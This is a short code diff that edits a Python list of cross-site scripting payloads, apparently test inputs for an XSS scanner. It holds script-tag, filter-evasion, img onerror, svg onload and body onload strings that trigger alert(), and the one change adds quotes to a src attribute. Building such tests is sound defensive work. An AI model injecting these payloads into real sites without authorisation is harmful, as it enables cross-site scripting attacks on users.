@@ -14,7 +14,7 @@ PAYLOADS: list[tuple[str, str]] = [
     ("script-upper", "<SCRIPT>alert('{m}')</SCRIPT>"),
     ("script-split", "<scr<script>ipt>alert('{m}')</scr</script>ipt>"),
     ("img-onerror", "<img src=x onerror=alert('{m}')>"),
-    ("img-onerror-slash", "<img/src=x/onerror=alert('{m}')>"),
+    ("img-onerror-slash", "<img/src=\"x\"/onerror=alert('{m}')>"),
     ("svg-onload", "<svg onload=alert('{m}')>"),
     ("svg-script", "<svg><script>alert('{m}')</script></svg>"),
     ("body-onload", "<body onload=alert('{m}')>"),
